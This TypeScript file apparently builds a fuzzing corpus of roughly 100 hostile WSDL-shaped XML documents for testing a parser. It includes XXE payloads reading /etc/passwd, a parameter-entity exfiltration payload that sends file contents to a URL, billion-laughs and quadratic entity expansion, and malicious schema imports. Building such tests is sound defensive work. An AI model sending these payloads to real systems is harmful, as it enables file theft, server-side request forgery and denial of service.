type Text = string | Uint8Array;

/** One hostile document that pretends to be a WSDL; made when asked for, because some are large. */
export interface XmlAttack {
  readonly name: string;
  text(): Text;
}

const wsdl = 'http://schemas.xmlsoap.org/wsdl/';
const schema = 'http://www.w3.org/2001/XMLSchema';

/** A description around a schema; `root` goes into the start tag. */
function description(inside: string, root = ''): string {
  return `<definitions xmlns="${wsdl}" xmlns:xs="${schema}" xmlns:t="urn:t" targetNamespace="urn:t" ${root}><types><xs:schema targetNamespace="urn:t">${inside}</xs:schema></types></definitions>`;
}

function named(family: string, attacks: Readonly<Record<string, Text | (() => Text)>>): XmlAttack[] {
  return Object.entries(attacks).map(([name, text]) => ({
    name: `${family}: ${name}`,
    text: () => (typeof text === 'function' ? text() : text),
  }));
}

/** 100 documents in eight families. None is larger than 20 MB; what they would become is. */
export function xmlAttacks(): XmlAttack[] {
  return [
    ...externalEntities(),
    ...expansions(),
    ...nesting(),
    ...attributes(),
    ...confusedNamespaces(),
    ...encodings(),
    ...expandingSchemas(),
    ...brokenSyntax(),
  ];
}

function externalEntities(): XmlAttack[] {
  const targets = {
    'a file': 'SYSTEM "file:///etc/passwd"',
    'a relative file': 'SYSTEM "../../../../etc/passwd"',
    'a web address': 'SYSTEM "http://127.0.0.1:9/x"',
    'a public identifier': 'PUBLIC "-//W3C//TEXT x//EN" "http://127.0.0.1:9/x"',
    'an endless device': 'SYSTEM "file:///dev/zero"',
    'another protocol': 'SYSTEM "ftp://127.0.0.1:9/x"',
    'a stream wrapper': 'SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd"',
    'an archive': 'SYSTEM "jar:http://127.0.0.1:9/x.jar!/y"',
    'a network share': 'SYSTEM "\\\\127.0.0.1\\share"',
  };
  const uses = {
    'in text': (target: string) =>
      `<!DOCTYPE d [<!ENTITY x ${target}>]>${description('<xs:annotation><xs:documentation>&x;</xs:documentation></xs:annotation>')}`,
    'in an attribute': (target: string) =>
      `<!DOCTYPE d [<!ENTITY x ${target}>]>${description('<xs:element name="&x;"/>')}`,
  };
  const made = Object.entries(targets).flatMap(([target, text]) =>
    Object.entries(uses).map(([use, write]) => [`${target} ${use}`, write(text)] as const),
  );
  return named('external entity', {
    ...Object.fromEntries(made),
    'parameter entity': `<!DOCTYPE d [<!ENTITY % p SYSTEM "http://127.0.0.1:9/e.dtd"> %p;]>${description('')}`,
    'external subset': `<!DOCTYPE definitions SYSTEM "http://127.0.0.1:9/e.dtd">${description('')}`,
    'public external subset': `<!DOCTYPE definitions PUBLIC "x" "file:///etc/passwd">${description('')}`,
    exfiltration: `<!DOCTYPE d [<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % e "<!ENTITY &#37; s SYSTEM 'http://127.0.0.1:9/?%f;'>">%e;%s;]>${description('')}`,
  });
}

function laughs(levels: number, width: number): string {
  const entities = Array.from(
    { length: levels },
    (_, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(width)}">`,
  );
  return `<!DOCTYPE d [<!ENTITY l0 "ha">${entities.join('')}]>${description(`<xs:annotation><xs:documentation>&l${levels};</xs:documentation></xs:annotation>`)}`;
}

function expansions(): XmlAttack[] {
  const quadratic = (size: number, uses: number): string =>
    `<!DOCTYPE d [<!ENTITY a "${'a'.repeat(size)}">]>${description(`<xs:annotation><xs:documentation>${'&a;'.repeat(uses)}</xs:documentation></xs:annotation>`)}`;
  return named('expansion', {
    'billion laughs': laughs(9, 10),
    'deep laughs': laughs(60, 2),
    'wide laughs': laughs(3, 3000),
    'laughs in an attribute': laughs(9, 10).replace('<types>', '<types x="&l9;">'),
    'entity of itself': `<!DOCTYPE d [<!ENTITY a "&a;">]>${description('&a;')}`,
    'two entities of each other': `<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>${description('&a;')}`,
    'parameter laughs': `<!DOCTYPE d [<!ENTITY % a "x"><!ENTITY % b "%a;%a;%a;%a;">%b;]>${description('')}`,
    'quadratic, short': quadratic(1000, 1000),
    'quadratic, long': () => quadratic(100_000, 100_000),
    'quadratic, longest': () => quadratic(1_000_000, 300_000),
    'many declarations': () =>
      `<!DOCTYPE d [${Array.from({ length: 100_000 }, (_, n) => `<!ENTITY e${n} "x">`).join('')}]>${description('')}`,
    'default attributes': () => `<!DOCTYPE d [<!ATTLIST types x CDATA "${'y'.repeat(1_000_000)}">]>${description('')}`,
    'declaration behind a comment': `<!-- a -->\n<!DOCTYPE d>${description('')}`,
    'undeclared entity': description('&undeclared;'),
    'entity of another alphabet': description('&nbsp;'),
  });
}

function nesting(): XmlAttack[] {
  const deep = (name: string, depth: number): string => `<${name}>`.repeat(depth) + `</${name}>`.repeat(depth);
  return named('nesting', {
    '250 levels': description(deep('xs:annotation', 250)),
    '10 000 levels': description(deep('xs:annotation', 10_000)),
    'a million levels': () => description(deep('a', 1_000_000)),
    'never closed': () => description('<a>'.repeat(200_000)),
    sequences: description(`<xs:complexType name="T">${deep('xs:sequence', 5000)}</xs:complexType>`),
    choices: description(`<xs:complexType name="T">${deep('xs:choice', 5000)}</xs:complexType>`),
    'anonymous types': description(
      '<xs:element name="e"><xs:complexType><xs:sequence>'.repeat(500) +
        '</xs:sequence></xs:complexType></xs:element>'.repeat(500),
    ),
    documentation: () => `<definitions xmlns="${wsdl}">${deep('documentation', 100_000)}</definitions>`,
    'empty elements': () => description('<a/>'.repeat(1_000_000)),
    'a long text': () => description(`<xs:annotation>${'x'.repeat(17_000_000)}</xs:annotation>`),
  });
}

function attributes(): XmlAttack[] {
  const many = (count: number): string => Array.from({ length: count }, (_, n) => `a${n}="x"`).join(' ');
  return named('attributes', {
    '1 000 of them': description('', many(1000)),
    '200 000 of them': () => description('', many(200_000)),
    'a value of 2 MB': () => description('', `a="${'x'.repeat(2_000_000)}"`),
    'a value of 17 MB': () => description('', `a="${'x'.repeat(17_000_000)}"`),
    'a name of 2 MB': () => description('', `${'n'.repeat(2_000_000)}="x"`),
    'a value that never ends': () => `${description('').slice(0, -14)}<a b="${'x'.repeat(5_000_000)}`,
    '2 000 prefixes': description('', Array.from({ length: 2000 }, (_, n) => `xmlns:p${n}="urn:p${n}"`).join(' ')),
    'the same twice': description('', 'a="1" a="2"'),
    'the same under two prefixes': description('', 'xmlns:p="urn:p" xmlns:q="urn:p" p:a="1" q:a="2"'),
    'a less-than sign': description('', 'a="<"'),
  });
}

function confusedNamespaces(): XmlAttack[] {
  const root = (declarations: string): string => `<definitions xmlns="${wsdl}" ${declarations}/>`;
  return named('namespaces', {
    'xmlns declared': root('xmlns:xmlns="urn:x"'),
    'the namespace of xmlns': root('xmlns:x="http://www.w3.org/2000/xmlns/"'),
    'the namespace of xmlns as default': '<definitions xmlns="http://www.w3.org/2000/xmlns/"/>',
    'xml as another': root('xmlns:xml="urn:x"'),
    'another as xml': root('xmlns:x="http://www.w3.org/XML/1998/namespace"'),
    'the namespace of xml as default': '<definitions xmlns="http://www.w3.org/XML/1998/namespace"/>',
    'a prefix undeclared again': root('xmlns:x="urn:x"').replace('/>', '><a xmlns:x=""/></definitions>'),
    'two colons': root('').replace('/>', '><a:b:c xmlns:a="urn:a"/></definitions>'),
    'a colon first': root('').replace('/>', '><:a/></definitions>'),
    'a colon last': root('').replace('/>', '><a: xmlns:a="urn:a"/></definitions>'),
    'two colons in an attribute': root('xmlns:a="urn:a" a:b:c="1"'),
    'no namespace': '<definitions><types/></definitions>',
    'almost the namespace': `<definitions xmlns="${wsdl.toUpperCase()}"/>`,
    'the namespace with a blank': `<definitions xmlns=" ${wsdl}"/>`,
    'WSDL 2.0': '<description xmlns="http://www.w3.org/ns/wsdl"/>',
    'the local name of another': `<x:definitions xmlns:x="urn:x"><w:types xmlns:w="${wsdl}"/></x:definitions>`,
    'a page': '<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
    'an undeclared prefix on the root': '<w:definitions/>',
    'a type of an undeclared prefix': description('<xs:element name="e" type="nowhere:T"/>'),
    'undeclared prefixes without end': () =>
      description(Array.from({ length: 20_000 }, (_, n) => `<p${n}:a/>`).join('')),
  });
}

function encodings(): XmlAttack[] {
  const laughter = laughs(9, 10);
  const utf16 = Buffer.from(`\uFEFF${laughter}`, 'utf16le');
  return named('encoding', {
    'laughs in UTF-16': utf16,
    'laughs in big-endian UTF-16': Buffer.from(utf16).swap16(),
    'an unknown encoding': Buffer.from(`<?xml version="1.0" encoding="klingon"?>${description('')}`),
    'bytes of no text': Buffer.concat([Buffer.from(description('')), Buffer.from([0xff, 0xfe, 0xc3, 0x28])]),
    'UTF-7': Buffer.from('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE d+AD4-'),
    'a null character': description('\u0000'),
    'a reference to a null character': description('&#0;'),
    'a reference to half a character': description('&#xD800;'),
  });
}

function expandingSchemas(): XmlAttack[] {
  const group = (level: number): string =>
    `<xs:group name="g${level}"><xs:sequence>${`<xs:group ref="t:g${level + 1}"/>`.repeat(10)}</xs:sequence></xs:group>`;
  const groups = Array.from({ length: 9 }, (_, level) => group(level)).join('');
  const leaf = '<xs:group name="g9"><xs:sequence><xs:element name="e" type="xs:string"/></xs:sequence></xs:group>';
  const chain = Array.from(
    { length: 5000 },
    (_, n) =>
      `<xs:complexType name="T${n}"><xs:complexContent><xs:extension base="t:T${n + 1}"><xs:sequence><xs:element name="e${n}" type="xs:string"/></xs:sequence></xs:extension></xs:complexContent></xs:complexType>`,
  ).join('');
  const simple = (name: string, base: string): string =>
    `<xs:simpleType name="${name}"><xs:restriction base="t:${base}"/></xs:simpleType>`;
  const reference = (location: string): string =>
    description(`<xs:import namespace="urn:u" schemaLocation="${location}"/>`);
  return named('schema', {
    'groups of groups': description(groups + leaf + '<xs:complexType name="T"><xs:group ref="t:g0"/></xs:complexType>'),
    'a group of itself': description(
      '<xs:group name="g"><xs:sequence><xs:group ref="t:g"/></xs:sequence></xs:group><xs:complexType name="T"><xs:group ref="t:g"/></xs:complexType>',
    ),
    'a chain of derivations': () => description(`${chain}<xs:complexType name="T5000"/>`),
    'a type of itself': description(simple('T', 'T')),
    'two types of each other': description(simple('T', 'U') + simple('U', 'T')),
    'a list of itself': description('<xs:simpleType name="T"><xs:list itemType="t:T"/></xs:simpleType>'),
    'a union of itself': description('<xs:simpleType name="T"><xs:union memberTypes="t:T"/></xs:simpleType>'),
    'an import from the web': reference('http://127.0.0.1:9/x.xsd'),
    'an import of a file address': reference('file:///etc/passwd'),
    'an import from elsewhere': reference('../../../../../../etc/passwd'),
    'an import of an absolute path': reference('/etc/passwd'),
  });
}

function brokenSyntax(): XmlAttack[] {
  return named('syntax', {
    nothing: '',
    'cut off': description('<xs:element name="e"/>').slice(0, -30),
    'crossed tags': description('<a><b></a></b>'),
    'two roots': description('') + description(''),
  });
}
